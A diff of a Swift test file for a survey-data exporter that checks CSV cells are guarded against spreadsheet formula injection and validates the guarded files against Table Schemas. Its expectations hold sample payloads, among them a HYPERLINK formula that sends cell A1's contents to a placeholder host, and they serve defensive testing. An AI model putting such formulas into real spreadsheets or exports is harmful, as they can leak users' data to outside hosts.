@@ -92,7 +92,16 @@ import Testing
     #expect(raw.contains(#","'=HYPERLINK(""http://example.invalid/?""&A1,""x"")","#))
     let coded = try #require(safe["answers-belonging-interview.coded.csv"])
     #expect(coded.joined().contains("'@SUM(1+1)"))
-    #expect(safe["answers-belonging-interview.csv"]?[0].contains("gender") == true)
+    // The Table Schemas still describe the guarded files (frictionless validates them).
+    let safeOut = folder.path + "/safe/"
+    _ = try ExportValidators.run(
+      "table_check.py",
+      [
+        safeOut + "answers-belonging-interview.schema.json",
+        safeOut + "answers-belonging-interview.csv",
+      ])
+    _ = try ExportValidators.run(
+      "table_check.py", [safeOut + "paradata.schema.json", safeOut + "paradata.csv"])
 
     let verbatim = try Self.export(
       responses, into: folder.path + "/verbatim", ["--csv-cells", "verbatim"])
